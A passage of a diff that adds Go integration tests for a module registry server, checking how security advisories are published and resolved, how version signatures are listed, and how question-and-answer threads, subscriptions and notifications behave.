+	if _, err := carol.PublishAdvisory(ctx, "nft", advisory); violations(t, err)["identifier"] == "" {
+		t.Errorf("expected a duplicate identifier to be rejected, got %v", err)
+	}
+
+	m, err := h.Client().GetModule(ctx, "nft")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(m.Advisories) != 1 || m.Advisories[0].Identifier != advisory.Identifier {
+		t.Errorf("expected the open advisory in the module detail, got %+v", m.Advisories)
+	}
+
+	versions, err := h.Client().ListVersions(ctx, "nft")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(versions) != 1 || len(versions[0].Advisories) != 1 {
+		t.Errorf("expected the advisory to affect 0.1.0, got %+v", versions)
+	}
+
+	if err := bob.ResolveAdvisory(ctx, "nft", advisory.Identifier); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s resolving as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	if err := carol.ResolveAdvisory(ctx, "nft", advisory.Identifier); err != nil {
+		t.Fatal(err)
+	}
+
+	if m, err := h.Client().GetModule(ctx, "nft"); err != nil || len(m.Advisories) != 0 {
+		t.Errorf("expected no open advisories once resolved, got %+v, %v", m.Advisories, err)
+	}
+
+	all, err := h.Client().Advisories(ctx, "nft")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(all) != 1 || !all[0].Resolved {
+		t.Errorf("expected the resolved advisory to be listed, got %+v", all)
+	}
+
+	if err := carol.ResolveAdvisory(ctx, "nft", "CVE-2021-9999"); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s for an unknown advisory, got %v", server.CodeNotFound, err)
+	}
+}
+
+func TestVersionSignatures(t *testing.T) {
+	h, _ := newSeededHarness(t)
+	ctx := context.Background()
+
+	var keyID int
+	if err := h.DB.QueryRowContext(ctx, `
+		INSERT INTO public_keys (user_id, kind, key)
+		SELECT id, 'cosign', 'carol-key' FROM users WHERE name = 'carol'
+		RETURNING id`,
+	).Scan(&keyID); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := h.DB.ExecContext(ctx, `
+		UPDATE module_versions
+		SET signature_kind = 'cosign', signature = 'c2lnbmF0dXJl', signature_key_id = $1
+		WHERE version = '0.1.0'
+			AND module_id = (SELECT id FROM modules WHERE name = 'nft')`,
+		keyID,
+	); err != nil {
+		t.Fatal(err)
+	}
+
+	versions, err := h.Client().ListVersions(ctx, "nft")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	want := module.Signature{Kind: "cosign", Value: "c2lnbmF0dXJl", KeyID: keyID}
+	if len(versions) != 1 || versions[0].Signature != want {
+		t.Errorf("expected the signature %+v to be listed, got %+v", want, versions)
+	}
+
+	latest, err := h.Client().LatestVersion(ctx, "nft", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if latest.Signature != want {
+		t.Errorf("expected the latest version to carry the signature %+v, got %+v", want, latest.Signature)
+	}
+
+	unsigned, err := h.Client().ListVersions(ctx, "oracle")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, mv := range unsigned {
+		if mv.Signed() {
+			t.Errorf("expected %s to be unsigned, got %+v", mv.Version, mv.Signature)
+		}
+	}
+}
+
+func TestDiscussions(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	asker := h.Client(client.WithToken(token(t, f, "alice")))
+	owner := h.Client(client.WithToken(token(t, f, "bob")))
+	subscriber := h.Client(client.WithToken(token(t, f, "carol")))
+
+	notifications := func(name, kind string) int {
+		t.Helper()
+
+		var n int
+		if err := h.DB.QueryRowContext(ctx, `
+			SELECT COUNT(*)
+			FROM notifications n
+			JOIN users u ON u.id = n.user_id
+			WHERE u.name = $1 AND n.kind = $2`,
+			name, kind,
+		).Scan(&n); err != nil {
+			t.Fatal(err)
+		}
+
+		return n
+	}
+
+	if _, err := h.Client().AskQuestion(ctx, "oracle", "Feeds?", "How often do prices update?"); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s asking anonymously, got %v", server.CodeUnauthorized, err)
+	}
+
+	if _, err := asker.AskQuestion(ctx, "oracle", "", "How often do prices update?"); violations(t, err)["title"] == "" {
+		t.Errorf("expected a question without a title to be rejected, got %v", err)
+	}
+
+	if err := subscriber.Subscribe(ctx, "oracle"); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := subscriber.Subscribe(ctx, "oracle"); err != nil {
+		t.Errorf("expected subscribing twice to succeed, got %v", err)
+	}
+
+	question, err := asker.AskQuestion(ctx, "oracle", "Feeds?", "How often do prices update?")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if n := notifications("bob", module.NotificationQuestion); n != 1 {
+		t.Errorf("expected the owner to be notified of the question, got %d", n)
+	}
+
+	if n := notifications("carol", module.NotificationQuestion); n != 1 {
+		t.Errorf("expected the subscriber to be notified of the question, got %d", n)
+	}
+
+	maintainer, err := owner.AnswerQuestion(ctx, "oracle", question.ID, "Every block.")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if !maintainer.Maintainer {
+		t.Error("expected the owner's answer to be a maintainer answer")
+	}
+
+	community, err := subscriber.AnswerQuestion(ctx, "oracle", question.ID, "Every block, unless the feed is stale.")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if community.Maintainer {
+		t.Error("expected a non-owner's answer not to be a maintainer answer")
+	}
+
+	if n := notifications("alice", module.NotificationAnswer); n != 2 {
+		t.Errorf("expected the asker to be notified of both answers, got %d", n)
+	}
+
+	if _, err := owner.AnswerQuestion(ctx, "oracle", question.ID+1000, "Lost?"); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s answering an unknown question, got %v", server.CodeNotFound, err)
+	}
+
+	if _, err := subscriber.AcceptAnswer(ctx, "oracle", question.ID, community.ID); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s accepting as neither asker nor owner, got %v", server.CodeForbidden, err)
+	}
+
+	if _, err := asker.AcceptAnswer(ctx, "oracle", question.ID, community.ID+1000); violations(t, err)["answer_id"] == "" {
+		t.Errorf("expected accepting an unknown answer to be rejected, got %v", err)
+	}
+
+	accepted, err := asker.AcceptAnswer(ctx, "oracle", question.ID, community.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if accepted.AcceptedAnswerID != community.ID {
+		t.Errorf("expected answer %d to be accepted, got %d", community.ID, accepted.AcceptedAnswerID)
+	}
+
+	if n := notifications("carol", module.NotificationAccepted); n != 1 {
+		t.Errorf("expected the author of the accepted answer to be notified, got %d", n)
+	}
+
+	thread, err := h.Client().Question(ctx, "oracle", question.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(thread.Answers) != 2 || thread.Answers[0].ID != community.ID || thread.Answers[1].ID != maintainer.ID {
+		t.Errorf("expected the accepted answer first, got %+v", thread.Answers)
+	}
+
+	if err := subscriber.Unsubscribe(ctx, "oracle"); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := asker.AskQuestion(ctx, "oracle", "Testnets?", "Is there a testnet feed?"); err != nil {
+		t.Fatal(err)
+	}
+
+	if n := notifications("carol", module.NotificationQuestion); n != 1 {
+		t.Errorf("expected no notifications once unsubscribed, got %d", n)
+	}
+}